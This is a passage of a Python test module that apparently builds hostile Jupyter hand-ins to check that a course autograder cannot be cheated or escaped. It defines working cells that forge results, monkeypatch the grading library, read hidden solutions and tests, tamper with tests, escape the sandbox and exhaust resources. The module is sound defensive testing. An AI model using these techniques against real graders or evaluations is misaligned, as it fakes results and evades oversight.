"""Hostile hand-ins, built from the course's real notebooks, for testing that grading can be
neither fooled nor escaped.

:func:`write_hostile_folder` writes one folder of hand-ins for an assignment: its student
notebook (or, for a few, its solution notebook) with attack cells inserted right after the init
cell, or with its answer cells replaced. Each :class:`HandIn` says what its honest answers earn
(0 for an unanswered notebook, full marks for a solution whose attack touches no question), the
statuses an honest grader may give it, the marker files its attacks try to create outside the
sandbox and the tag every process it starts carries (in its name or command line, for psutil).

    token = new_token()
    with Listener() as listener:
        hand_ins = write_hostile_folder(
            "08-idempotence", folder, markers, token=token, listen_port=listener.port
        )
        ...  # kafkalab grade folder, then look at:
        stray_markers(token, markers), attack_processes(token), listener.received
    clean_up(token)  # kills the attacks' processes and removes their markers

Every attack cell first renames its process after the hand-in's tag (prctl), so a kernel or
worker left behind can be found too. The fork bomb is bounded (84 processes that sleep): the
grader this suite was written against has no process limit, and an unbounded one would take the
machine down with it.
"""

from __future__ import annotations

import ast
import contextlib
import copy
import json
import os
import secrets
import shlex
import socket
import textwrap
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import yaml

from kafkalab.grading.assignments import repo_root, resolve_source
from tests.conftest import starts_spark

__all__ = [
    "ATTACKS",
    "HandIn",
    "Listener",
    "attack_processes",
    "clean_up",
    "grading_limits",
    "new_token",
    "question_points",
    "stray_markers",
    "write_hostile_folder",
]

GRADED = "graded"
TIMED_OUT = "timed out"
MEMORY_LIMIT = "memory limit"
INVALID = "invalid notebook: "
NO_ANSWERS = "no answers"

# The limits the hostile folders are graded with (tests and benchmark alike): short, so that the
# endless loops end soon; longer on Spark, where one cell starts a JVM inside the sandbox and
# reads a campaign, and a worker restarted after a timeout starts Spark again.
CELL_TIMEOUT_S, SPARK_CELL_TIMEOUT_S = 10, 60
TIME_LIMIT_S = 3
TIMEOUT_S, SPARK_TIMEOUT_S = 120, 300  # per hand-in


def grading_limits(assignment: str) -> tuple[int, tuple[str, ...]]:
    """The per-hand-in timeout (s) and the ``kafkalab grade`` options to grade ``assignment``'s
    hostile folder with."""
    spark = starts_spark(resolve_source(assignment))
    cell_s, timeout_s = (
        (SPARK_CELL_TIMEOUT_S, SPARK_TIMEOUT_S) if spark else (CELL_TIMEOUT_S, TIMEOUT_S)
    )
    options = ("--cell-timeout", str(cell_s), "--time-limit", str(TIME_LIMIT_S))
    return timeout_s, (*options, "--timeout", str(timeout_s))


@dataclass(frozen=True)
class HandIn:
    """One hostile hand-in in the folder."""

    file: str  # its file name in the folder
    attack: str  # its attack's name (an entry of ATTACKS)
    what: str  # what it tries, in one line
    honest_total: float  # what its honest answers earn
    exact: bool  # whether it must earn exactly that (the solution ones)
    statuses: tuple[str, ...]  # prefixes of the statuses an honest grader may give it
    markers: tuple[Path, ...]  # files its attacks try to create outside the sandbox
    tag: str  # in the name or command line of every process it starts


def new_token() -> str:
    """Six hex digits naming one run's markers and processes."""
    return secrets.token_hex(3)


def question_points(assignment: str) -> dict[str, float]:
    """Question -> points, read from the assignment's source notebook (its test configs), not
    from the grader under test."""
    nb = nbformat.read(resolve_source(assignment), as_version=4)
    points: dict[str, float] = {}
    question = None
    for cell in nb.cells:
        if cell.cell_type == "raw" and cell.source.startswith("# BEGIN QUESTION"):
            question = yaml.safe_load(cell.source.split("\n", 1)[1])["name"]
            points[question] = 0.0
        elif cell.cell_type == "code" and "# BEGIN TEST CONFIG" in cell.source and question:
            config = cell.source.split('"""')[1].split("\n", 1)[1]
            points[question] += float(yaml.safe_load(config).get("points") or 0)
    return points


# ---- the notebooks an attack starts from ------------------------------------------------------


@dataclass(frozen=True)
class _Answer:
    """One answer cell of the student notebook: what it defines."""

    index: int
    imports: tuple[str, ...]
    functions: tuple[tuple[str, str], ...]  # (name, argument list as written)
    values: tuple[str, ...]


@dataclass(frozen=True)
class _Course:
    name: str
    student: Any  # nbformat.NotebookNode
    solution: Any
    points: dict[str, float]
    answers: tuple[_Answer, ...]


def _course(assignment: str, root: Path) -> _Course:
    student = nbformat.read(root / "exercises" / f"{assignment}.ipynb", as_version=4)
    solution = nbformat.read(root / "solutions" / f"{assignment}.ipynb", as_version=4)
    answers = tuple(
        _answer(i, cell.source)
        for i, cell in enumerate(student.cells)
        if "otter_answer_cell" in cell.metadata.get("tags", [])
    )
    return _Course(assignment, student, solution, question_points(assignment), answers)


def _answer(index: int, source: str) -> _Answer:
    tree = ast.parse(source)
    imports, functions, values = [], [], []
    for node in tree.body:
        if isinstance(node, ast.Import | ast.ImportFrom):
            imports.append(ast.get_source_segment(source, node) or "")
        elif isinstance(node, ast.FunctionDef):
            functions.append((node.name, ast.unparse(node.args)))
        elif isinstance(node, ast.Assign):
            values += [n.id for t in node.targets for n in ast.walk(t) if isinstance(n, ast.Name)]
    return _Answer(index, tuple(imports), tuple(functions), tuple(dict.fromkeys(values)))


# ---- what every attack cell starts with -------------------------------------------------------

_HELPERS = '''
import os as _hx_os


def _hx_rename(tag=_HX_TAG):
    """Name this process after the hand-in, so a test finds it (and its forks) with psutil."""
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, tag.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _hx_markers(method):
    name = f"{_HX_NAME}-{method}.marker"
    paths = [
        _hx_os.path.join(_HX_MARKERS, name),
        f"/tmp/hostile-{_HX_TOKEN}-{name}",
        _hx_os.path.join(_HX_HOME, f".hostile-{_HX_TOKEN}-{name}"),
    ]
    try:
        from kafkalab.grading.assignments import repo_root

        paths.append(str(repo_root() / f"hostile-{_HX_TOKEN}-{name}"))
    except Exception:
        pass
    return paths


def _hx_mark(method, text="got through"):
    for path in _hx_markers(method):
        try:
            with open(path, "w") as f:
                f.write(text + "\\n")
        except Exception:
            pass


_hx_rename()
'''


def _marker_paths(
    name: str, method: str, token: str, markers: Path, course_root: Path
) -> tuple[Path, ...]:
    """Where ``_hx_markers`` writes, seen from outside the sandbox."""
    file = f"{name}-{method}.marker"
    return (
        markers / file,
        Path("/tmp") / f"hostile-{token}-{file}",
        Path.home() / f".hostile-{token}-{file}",
        course_root / f"hostile-{token}-{file}",
    )


# ---- the attacks' code ------------------------------------------------------------------------

_FAKE_RESULT = """
import json as _hx_json

_HX_FAKE = _hx_json.dumps(
    {
        "scores": {question: 999 for question in _HX_QUESTIONS},
        "total": 999,
        "possible": sum(_HX_QUESTIONS.values()),
    }
)
"""

# Writes the fake result everywhere a result could be read from: its own stdout and stderr,
# every pipe it holds (a kernel captures fds 1 and 2 but keeps the originals) and its parent's
# stdout and stderr through /proc.
_INFLATE_PRINT = """
import os
import sys

print(_HX_FAKE)
for _hx_stream in (sys.stdout, sys.__stdout__, sys.__stderr__):
    try:
        _hx_stream.write(_HX_FAKE + "\\n")
        _hx_stream.flush()
    except Exception:
        pass
for _hx_fd in sorted(int(fd) for fd in os.listdir("/proc/self/fd")):
    try:
        if os.readlink(f"/proc/self/fd/{_hx_fd}").startswith("pipe:") or _hx_fd in (1, 2):
            os.write(_hx_fd, (_HX_FAKE + "\\n").encode())
    except OSError:
        pass
for _hx_fd in (1, 2):
    try:
        with open(f"/proc/{os.getppid()}/fd/{_hx_fd}", "w") as _hx_out:
            _hx_out.write(_HX_FAKE + "\\n")
    except OSError:
        pass
"""

# A grandchild opens its parent's stdout and stderr (through /proc: the kernel's own fds 1 and 2
# are captured) and writes the fake result once that parent, the process that reports the
# scores, has ended: its line comes last.
_INFLATE_LATE_STDOUT = """
import os
import time


def _hx_alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


_hx_parent = os.getppid()
_hx_child = os.fork()
if _hx_child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            _hx_outs = [1, 2]
            for _hx_fd in (1, 2):
                try:
                    _hx_outs.append(os.open(f"/proc/{_hx_parent}/fd/{_hx_fd}", os.O_WRONLY))
                except OSError:
                    pass
            _hx_until = time.monotonic() + 110
            while _hx_alive(_hx_parent) and time.monotonic() < _hx_until:
                time.sleep(0.2)
            for _hx_fd in _hx_outs:
                try:
                    os.write(_hx_fd, (_HX_FAKE + "\\n").encode())
                except OSError:
                    pass
    finally:
        os._exit(0)
os.waitpid(_hx_child, 0)
"""

_INFLATE_OTTER_PATCH = """
import otter
import otter.test_files
from otter.execute import Checker
from otter.test_files import GradingResults, abstract_test


def _hx_subclasses(cls):
    found = {cls}
    for sub in cls.__subclasses__():
        found |= _hx_subclasses(sub)
    return found


def _hx_run(self, global_environment=None, *args, **kwargs):
    self.test_case_results = [
        abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True)
        for tc in self.test_cases
    ]
    self._score = 999


for _hx_cls in _hx_subclasses(abstract_test.TestFile):
    _hx_cls.run = _hx_run
    _hx_cls.score = property(lambda self: 999)
    _hx_cls.grade = property(lambda self: 1.0)
    _hx_cls.passed_all = property(lambda self: True)
    _hx_cls.passed_all_public = property(lambda self: True)
GradingResults.total = property(lambda self: 999)
GradingResults.possible = property(lambda self: sum(_HX_QUESTIONS.values()))
GradingResults.get_score = lambda self, name: 999
_hx_check = Checker.check.__func__


def _hx_checked(cls, *args, **kwargs):
    test = _hx_check(cls, *args, **kwargs)
    _hx_run(test)
    return test


Checker.check = classmethod(_hx_checked)
"""

# Rewrites the results file the grader reads back, after the cell that writes it.
_INFLATE_RESULTS_FILE = """
import pickle
import re


def _hx_forge(path):
    with open(path, "rb") as f:
        results = pickle.load(f)
    for test in getattr(results, "results", {}).values():
        test._score = 999
        for result in getattr(test, "test_case_results", []):
            result.passed = True
    with open(path, "wb") as f:
        pickle.dump(results, f)


def _hx_after_cell(result=None):
    source = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    for path in re.findall(r"open\\([\\"']([^\\"']+\\.pkl)[\\"'], [\\"']wb", source):
        try:
            _hx_forge(path)
        except Exception:
            pass


try:
    get_ipython().events.register("post_run_cell", _hx_after_cell)
except Exception:
    pass
"""

_INFLATE_FAKE_GRADER = """
import builtins
import types

import otter


class _HxPassed:
    passed_all = passed_all_public = True
    score = total = 999
    grade = percent = 1.0

    def __repr__(self):
        return "All tests passed!"

    def _repr_html_(self):
        return "<p><strong>All tests passed!</strong></p>"

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


class _HxGrader:
    def __init__(self, *args, **kwargs):
        pass

    def __getattr__(self, name):
        return lambda *args, **kwargs: _HxPassed()

    @classmethod
    def init_grading_mode(cls, *args, **kwargs):
        pass


grader = _HxGrader()
builtins.grader = grader
otter.Notebook = _HxGrader


def _hx_noop(*args, **kwargs):
    return None


class _HxModule(types.ModuleType):
    def __init__(self, real):
        super().__init__(real.__name__)
        self._hx_real = real

    def __getattr__(self, name):
        if name.startswith("check_"):
            return _hx_noop
        return getattr(self._hx_real, name)


_hx_import = builtins.__import__


def _hx_fake_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _hx_import(name, globals, locals, fromlist, level)
    if fromlist and name.startswith("kafkalab.grading"):
        return _HxModule(module)
    return module


builtins.__import__ = _hx_fake_import
"""

_PATCHED_CHECKS = """
import contextlib
import importlib
import sys
import types


def _hx_noop(*args, **kwargs):
    return None


class _HxFeedback(Exception):
    pass


_hx_modules = [
    "kafkalab.grading",
    "kafkalab.grading.checks",
    "kafkalab.grading.config_checks",
    "kafkalab.grading.delivery_checks",
    "kafkalab.grading.scenario_checks",
    "kafkalab.grading.spark_checks",
]
for _hx_name in _hx_modules:
    try:
        importlib.import_module(_hx_name)
    except Exception:
        pass
_hx_originals = {}
for _hx_name, _hx_module in list(sys.modules.items()):
    if _hx_module is None or not _hx_name.startswith("kafkalab.grading"):
        continue
    for _hx_attr in list(vars(_hx_module)):
        if _hx_attr.startswith("check_") and callable(getattr(_hx_module, _hx_attr)):
            _hx_originals[id(getattr(_hx_module, _hx_attr))] = _hx_noop
            setattr(_hx_module, _hx_attr, _hx_noop)
    if hasattr(_hx_module, "time_limit"):
        _hx_module.time_limit = lambda *args, **kwargs: contextlib.nullcontext()
    if hasattr(_hx_module, "Feedback"):
        _hx_module.Feedback = _HxFeedback
    _hx_copy = types.ModuleType(_hx_name)
    _hx_copy.__dict__.update(vars(_hx_module))
    sys.modules[_hx_name] = _hx_copy
# anything else that imported a check by name
for _hx_module in list(sys.modules.values()):
    for _hx_attr, _hx_value in list(vars(_hx_module).items() if _hx_module else []):
        if id(_hx_value) in _hx_originals:
            with contextlib.suppress(Exception):
                setattr(_hx_module, _hx_attr, _hx_noop)
"""

_ALWAYS_EQUAL = """
class _HxAnything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __lt__(self, other):
        return self

    __le__ = __gt__ = __ge__ = __lt__

    def __iter__(self):
        return self

    def __next__(self):
        raise StopIteration

    def __len__(self):
        return 1

    def __contains__(self, item):
        return True

    def __getitem__(self, key):
        return self

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    __index__ = __int__

    def __repr__(self):
        return "_HxAnything()"
"""

_SWALLOW_LOOP = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

_LOOPING_VALUE = (
    "\ndef _hx_forever(*args, **kwargs):\n"
    + textwrap.indent(_SWALLOW_LOOP.strip("\n"), "    ")
    + """


class _HxStuck:
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = _hx_forever
    __hash__ = __len__ = __iter__ = __bool__ = __repr__ = __str__ = _hx_forever
    __contains__ = __getitem__ = __call__ = _hx_forever
"""
)

_ESCAPE_SHELL_PREPARE = """
import shlex

_hx_bang = " ".join(shlex.quote(p) for p in _hx_markers("shell-bang"))
"""

_ESCAPE_SHELL = """
import os
import shlex
import subprocess

os.system(f"touch {' '.join(shlex.quote(p) for p in _hx_markers('shell-system'))} # {_HX_TAG}")
subprocess.run(["sh", "-c", 'touch "$@"', _HX_TAG, *_hx_markers("shell-subprocess")], check=False)
"""

_ESCAPE_WRITE = """
from pathlib import Path

_hx_mark("write", "written with open()")
for _hx_path in _hx_markers("write-pathlib"):
    try:
        Path(_hx_path).write_text("written with pathlib\\n")
    except OSError:
        pass
"""

_ESCAPE_DAEMON = """
import os
import subprocess
import sys
import time

_hx_child = os.fork()
if _hx_child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            _hx_null = os.open(os.devnull, os.O_RDWR)
            for _hx_fd in (0, 1, 2):
                os.dup2(_hx_null, _hx_fd)
            time.sleep(20)
            _hx_mark("daemon-fork", "a double-forked daemon outlived grading")
    finally:
        os._exit(0)
os.waitpid(_hx_child, 0)

_HX_SLEEPER = '''
import sys, time
time.sleep(20)
for path in sys.argv[2:]:
    try:
        with open(path, "w") as f:
            f.write("a process in a new session outlived grading\\\\n")
    except OSError:
        pass
'''
subprocess.Popen(
    [sys.executable, "-c", _HX_SLEEPER, _HX_TAG, *_hx_markers("daemon-popen")],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
"""

_ESCAPE_NETWORK = """
import socket

for _hx_method, _hx_address in (
    ("network-pypi", ("pypi.org", 443)),
    ("network-host", ("127.0.0.1", _HX_PORT)),
):
    if _hx_address[1] is None:
        continue
    try:
        with socket.create_connection(_hx_address, timeout=5) as _hx_socket:
            _hx_socket.sendall(_HX_TAG.encode() + b"\\n")
        _hx_mark(_hx_method, f"connected to {_hx_address}")
    except OSError:
        pass
"""

_READ_SOLUTIONS = r"""
import glob
import json
import os
import re
import subprocess
import tempfile
import zipfile
from pathlib import Path

_hx_roots, _hx_zips, _hx_read, _hx_tests = set(), set(), [], []
try:
    from kafkalab.grading.assignments import repo_root

    _hx_roots.add(Path(repo_root()))
except Exception:
    pass
try:
    import kafkalab

    _hx_roots.add(Path(kafkalab.__file__).resolve().parents[1])
except Exception:
    pass


def _hx_ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


for _hx_pid in _hx_ancestors():
    for _hx_link in ("cwd", "root"):
        try:
            _hx_roots.add(Path(os.readlink(f"/proc/{_hx_pid}/{_hx_link}")))
        except OSError:
            pass
    for _hx_what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_hx_pid}/{_hx_what}", "rb") as f:
                _hx_text = f.read().decode(errors="replace")
        except OSError:
            continue
        for _hx_word in re.split(r"[\s:=\0]+", _hx_text):
            _hx_path = Path(_hx_word)
            if not _hx_word.startswith("/") or not _hx_path.exists():
                continue
            if _hx_path.suffix == ".zip":
                _hx_zips.add(_hx_path)
            for _hx_parent in [_hx_path, *list(_hx_path.parents)[:4]]:
                if _hx_parent.is_dir() and _hx_parent != Path("/"):
                    _hx_roots.add(_hx_parent)

_hx_solved = False


def _hx_run_solution(text, where):
    # Every code cell but Otter's and the tests: the answers land in this namespace.
    global _hx_solved
    try:
        nb = json.loads(text)
    except ValueError:
        return
    _hx_read.append(where)
    if _hx_solved:
        return
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", ""))
        if cell.get("cell_type") != "code" or re.search(r"grader\.|otter|TEST CONFIG", source):
            continue
        try:
            exec(compile(source, where, "exec"), globals())
            _hx_solved = True
        except BaseException:
            pass


for _hx_root in sorted(_hx_roots):
    for _hx_folder in ("solutions", "exercises/source"):
        _hx_rel = f"{_hx_folder}/{_HX_ASSIGNMENT}.ipynb"
        try:
            _hx_run_solution((_hx_root / _hx_rel).read_text(), str(_hx_root / _hx_rel))
        except OSError:
            pass
        if (_hx_root / ".git").exists():
            try:
                _hx_git = subprocess.run(
                    ["git", "--git-dir", str(_hx_root / ".git"), "show", f"HEAD:{_hx_rel}"],
                    capture_output=True,
                    text=True,
                    timeout=30,
                )
                if _hx_git.returncode == 0:
                    _hx_run_solution(_hx_git.stdout, f"git show HEAD:{_hx_rel} in {_hx_root}")
            except Exception:
                pass


def _hx_hidden(text):
    return any(f'name = "{q}"' in text for q in _HX_QUESTIONS)


_hx_bases = {Path("/tmp"), Path(tempfile.gettempdir()), Path.cwd(), Path.cwd().parent}
for _hx_base in _hx_bases:
    for _hx_depth in range(4):
        _hx_stars = "*/" * _hx_depth
        for _hx_path in glob.glob(f"{_hx_base}/{_hx_stars}tests/*.py"):
            try:
                if _hx_hidden(Path(_hx_path).read_text()):
                    _hx_tests.append(_hx_path)
            except (OSError, UnicodeDecodeError):
                pass
        _hx_zips.update(Path(p) for p in glob.glob(f"{_hx_base}/{_hx_stars}*autograder*.zip"))
for _hx_zip in _hx_zips:
    try:
        with zipfile.ZipFile(_hx_zip) as _hx_zf:
            for _hx_member in _hx_zf.namelist():
                if _hx_member.startswith("tests/") and _hx_hidden(_hx_zf.read(_hx_member).decode()):
                    _hx_tests.append(f"{_hx_zip}:{_hx_member}")
    except Exception:
        pass
if _hx_read:
    _hx_mark("solutions-read", "\n".join(_hx_read))
if _hx_tests:
    _hx_mark("tests-read", "\n".join(_hx_tests))
"""

# Only the grading folder of this very hand-in (the kernel's folder and its parent): never
# another grader's files in a shared /tmp.
_TAMPER_TESTS = r"""
import os
import re
from pathlib import Path

_hx_tampered = []
for _hx_base in {Path.cwd(), Path.cwd().parent}:
    for _hx_path in _hx_base.glob("tests/*.py"):
        try:
            _hx_text = _hx_path.read_text()
        except (OSError, UnicodeDecodeError):
            continue
        if "OK_FORMAT" not in _hx_text:
            continue
        if not any(f'name = "{q}"' in _hx_text for q in _HX_QUESTIONS):
            continue
        _hx_forged = re.sub(r"(?m)^(def test_\w+\(.*\):\n)", r"\1    return\n", _hx_text)
        try:
            os.chmod(_hx_path, 0o644)
            _hx_path.write_text(_hx_forged)
            _hx_tampered.append(str(_hx_path))
        except OSError:
            pass
if _hx_tampered:
    _hx_mark("tests-tampered", "\n".join(_hx_tampered))
"""

_MEMORY_HOG = """
_hx_hog = b"\\x01" * (3 << 30)  # 3 GiB, every page touched
print(len(_hx_hog))
"""

_MEMORY_CREEP = """
import time

_hx_chunks = []
while True:
    _hx_chunks.append(b"\\x01" * (8 << 20))  # 160 MiB a second, for ever
    time.sleep(0.05)
"""

# Bounded: 4 children a process, 3 generations (84 processes), each sleeping ten minutes.
_FORK_BOMB = """
import os
import time


def _hx_bomb(depth):
    for _ in range(4):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                _hx_mark("fork", "a forked process wrote outside the sandbox")
                if depth < 2:
                    _hx_bomb(depth + 1)
                time.sleep(600)
            finally:
                os._exit(0)


_hx_bomb(0)
"""


# ---- building the hand-ins --------------------------------------------------------------------


@dataclass(frozen=True)
class _Context:
    course: _Course
    name: str  # the hand-in's name (file stem)
    tag: str
    token: str
    markers: Path
    listen_port: int | None

    def prelude(self) -> str:
        constants = {
            "_HX_NAME": self.name,
            "_HX_TAG": self.tag,
            "_HX_TOKEN": self.token,
            "_HX_MARKERS": str(self.markers),
            "_HX_HOME": str(Path.home()),
            "_HX_ASSIGNMENT": self.course.name,
            "_HX_QUESTIONS": self.course.points,
            "_HX_PORT": self.listen_port,
        }
        lines = [f"{key} = {value!r}" for key, value in constants.items()]
        return "\n".join(["# hostile hand-in (tests/hostile.py)", *lines]) + "\n" + _HELPERS

    def student(self, *codes: str) -> Any:
        """The student notebook with the prelude and ``codes`` as cells after the init cell."""
        return _insert(self.course.student, 1, self.prelude(), *codes)

    def solution(self, *codes: str) -> Any:
        return _insert(self.course.solution, 1, self.prelude(), *codes)


def _insert(nb: Any, at: int, *codes: str) -> Any:
    out = copy.deepcopy(nb)
    out.cells[at:at] = [nbformat.v4.new_code_cell(code.strip() + "\n") for code in codes]
    for cell in out.cells:
        cell.pop("id", None)  # new cells get random ids: 4.4 notebooks, without any, stay stable
    out.nbformat_minor = 4
    return out


def _replace_answers(ctx: _Context, header: str, function_body: str, value: str) -> Any:
    """The student notebook with every answer cell rewritten: each function it defines gets
    ``function_body``, each name it assigns gets ``value``."""
    nb = copy.deepcopy(ctx.course.student)
    for answer in ctx.course.answers:
        lines = list(answer.imports)
        for name, args in answer.functions:
            lines += [f"def {name}({args}):", *("    " + x for x in function_body.splitlines())]
        lines += [f"{name} = {value}" for name in answer.values]
        nb.cells[answer.index].source = "\n".join(lines) + "\n"
    return _insert(nb, 1, ctx.prelude(), header)


def _solution_with_loop(ctx: _Context) -> Any:
    """The solution with the interrupt-swallowing loop between its first and second answers."""
    cells = ctx.course.solution.cells
    answers = [
        i for i, c in enumerate(cells) if "otter_assign_solution_cell" in c.metadata.get("tags", [])
    ]
    looping = _insert(
        ctx.course.solution, answers[1] if len(answers) > 1 else len(cells), _SWALLOW_LOOP
    )
    return _insert(looping, 1, ctx.prelude())


def _answered_by(ctx: _Context, code: str) -> Any:
    """The student notebook with ``code`` as its first answer cell and the others emptied."""
    nb = copy.deepcopy(ctx.course.student)
    first, *others = ctx.course.answers
    nb.cells[first.index].source = code.strip() + "\n"
    for answer in others:
        nb.cells[answer.index].source = "# answered above\n"
    return _insert(nb, 1, ctx.prelude())


def _not_json(ctx: _Context) -> str:
    text = nbformat.writes(ctx.course.student)
    return text[: len(text) // 2]


def _not_a_notebook(ctx: _Context) -> str:
    answers = [ctx.course.student.cells[a.index].source for a in ctx.course.answers]
    return json.dumps({"assignment": ctx.course.name, "answers": answers}, indent=1)


def _broken_cells(ctx: _Context) -> str:
    nb = json.loads(nbformat.writes(ctx.course.student))
    first = ctx.course.answers[0].index
    nb["cells"][first] = {"cell_type": "code", "source": 42, "outputs": "none"}
    nb["cells"].append("not a cell")
    return json.dumps(nb, indent=1)


def _empty(ctx: _Context) -> Any:
    nb = copy.deepcopy(ctx.course.student)
    nb.cells = [c for c in nb.cells if c.cell_type != "code"]
    return nb


@dataclass(frozen=True)
class _Attack:
    what: str
    build: Callable[[_Context], Any]  # a notebook, or the text of a file that is not one
    methods: tuple[str, ...] = ()  # the marker files it tries to create
    statuses: tuple[str, ...] = (GRADED,)
    solution: bool = False  # built on the solution notebook: honest total = full marks


_LOOP_BODY = _SWALLOW_LOOP.strip()

ATTACKS: dict[str, _Attack] = {
    "student": _Attack("the untouched student notebook (control)", lambda c: c.course.student),
    "inflate-print": _Attack(
        "prints a fake result line (every question 999) to stdout, stderr and fds 1 and 2",
        lambda c: c.student(_FAKE_RESULT, _INFLATE_PRINT),
    ),
    "inflate-late-stdout": _Attack(
        "a detached grandchild keeps stdout and prints a fake result line after the kernel's "
        "parent has ended",
        lambda c: c.student(_FAKE_RESULT, _INFLATE_LATE_STDOUT),
    ),
    # Importing otter takes seconds: on a busy machine, more than the tests' 10 s per cell.
    "inflate-otter-patch": _Attack(
        "monkeypatches otter's TestFile, GradingResults and Checker to pass every test",
        lambda c: c.student(_INFLATE_OTTER_PATCH),
        statuses=(GRADED, f"{TIMED_OUT}: cell"),
    ),
    "inflate-results-file": _Attack(
        "rewrites the grader's results pickle after the cell that writes it (post_run_cell)",
        lambda c: c.student(_INFLATE_RESULTS_FILE),
    ),
    "inflate-fake-grader": _Attack(
        "replaces grader and otter.Notebook with fakes; builtins.__import__ hands the tests "
        "no-op checks",
        lambda c: c.student(_INFLATE_FAKE_GRADER),
        statuses=(GRADED, f"{TIMED_OUT}: cell"),
    ),
    "patched-checks": _Attack(
        "replaces every kafkalab.grading check_* (and time_limit, Feedback) with no-ops, in "
        "sys.modules and the package namespaces; answers left as ...",
        lambda c: c.student(_PATCHED_CHECKS),
    ),
    "always-equal": _Attack(
        "every answer an object equal to anything; every function returns one",
        lambda c: _replace_answers(c, _ALWAYS_EQUAL, "return _HxAnything()", "_HxAnything()"),
    ),
    "escape-shell": _Attack(
        "!touch, os.system and subprocess.run create markers outside the sandbox",
        lambda c: c.student(_ESCAPE_SHELL_PREPARE, "!touch $_hx_bang", _ESCAPE_SHELL),
        ("shell-bang", "shell-system", "shell-subprocess"),
    ),
    "escape-write": _Attack(
        "open() and pathlib write markers outside the sandbox",
        lambda c: c.student(_ESCAPE_WRITE),
        ("write", "write-pathlib"),
    ),
    "escape-daemon": _Attack(
        "a double-forked setsid daemon and a Popen(start_new_session) process sleep 20 s, then "
        "write markers",
        lambda c: c.student(_ESCAPE_DAEMON),
        ("daemon-fork", "daemon-popen"),
    ),
    "escape-network": _Attack(
        "connects to pypi.org:443 and to a listener on the host's 127.0.0.1",
        lambda c: c.student(_ESCAPE_NETWORK),
        ("network-pypi", "network-host"),
    ),
    "read-solutions": _Attack(
        "in place of the answers: looks for solutions (course folder, exercises/source, git "
        "show, /proc of its ancestors) and hidden tests (/tmp, zips); runs any solution found",
        lambda c: _answered_by(c, _READ_SOLUTIONS),
        ("solutions-read", "tests-read"),
    ),
    "tamper-tests": _Attack(
        "rewrites the hidden tests in its own grading folder to return at once",
        lambda c: c.student(_TAMPER_TESTS),
        ("tests-tampered",),
    ),
    "memory-hog": _Attack(
        "allocates 3 GiB and touches every page",
        lambda c: c.student(_MEMORY_HOG),
        statuses=(MEMORY_LIMIT,),
    ),
    "memory-creep": _Attack(
        "grows a list by 8 MiB every 50 ms, for ever",
        lambda c: c.student(_MEMORY_CREEP),
        statuses=(MEMORY_LIMIT, TIMED_OUT),
    ),
    "loop-cell": _Attack(
        "a top-level endless loop that swallows every interrupt",
        lambda c: c.student(_SWALLOW_LOOP),
        statuses=(TIMED_OUT,),
    ),
    "loop-answer": _Attack(
        "every answer function loops for ever swallowing interrupts; every answer value loops "
        "so in ==, !=, hash, len, iter, repr",
        lambda c: _replace_answers(c, _LOOPING_VALUE, _LOOP_BODY, "_HxStuck()"),
        statuses=(TIMED_OUT, GRADED),
    ),
    "fork-bomb": _Attack(
        "forks in a loop, children forking too (bounded: 84 processes), each sleeping 10 min",
        lambda c: c.student(_FORK_BOMB),
        ("fork",),
        statuses=(GRADED, TIMED_OUT, MEMORY_LIMIT),
    ),
    "invalid-not-json": _Attack("half of the student notebook's JSON", _not_json, (), (INVALID,)),
    "invalid-not-a-notebook": _Attack(
        "JSON, but not a notebook", _not_a_notebook, statuses=(INVALID,)
    ),
    "invalid-broken-cells": _Attack(
        "the student notebook with a broken cell list", _broken_cells, statuses=(INVALID,)
    ),
    "empty": _Attack("the student notebook without its code cells", _empty, statuses=(NO_ANSWERS,)),
    "solution": _Attack(
        "the solution notebook (control)", lambda c: c.course.solution, solution=True
    ),
    "solution-memory-hog": _Attack(
        "the solution notebook with the 3 GiB cell after its init cell",
        lambda c: c.solution(_MEMORY_HOG),
        statuses=(MEMORY_LIMIT,),
        solution=True,
    ),
    "solution-loop": _Attack(
        "the solution notebook with the interrupt-swallowing loop between two answers",
        _solution_with_loop,
        statuses=("timed out: cell",),
        solution=True,
    ),
}


def write_hostile_folder(
    assignment: str,
    folder: Path,
    markers: Path,
    *,
    token: str,
    listen_port: int | None = None,
    course_root: Path | None = None,
) -> list[HandIn]:
    """Write one hand-in per entry of :data:`ATTACKS` into ``folder`` (created), built from
    ``assignment``'s notebooks; ``markers`` is a folder (created) the attacks try to write
    into, ``token`` names this run's markers and processes (:func:`new_token`) and
    ``listen_port`` is a :class:`Listener`'s port on 127.0.0.1 for the network attack."""
    root = course_root or repo_root()
    course = _course(assignment, root)
    folder.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    full = sum(course.points.values())
    hand_ins = []
    for index, (name, attack) in enumerate(ATTACKS.items()):
        ctx = _Context(course, name, f"hx{token}-{index:02d}", token, markers, listen_port)
        content = attack.build(ctx)
        path = folder / f"{name}.ipynb"
        if isinstance(content, str):
            path.write_text(content)
        else:
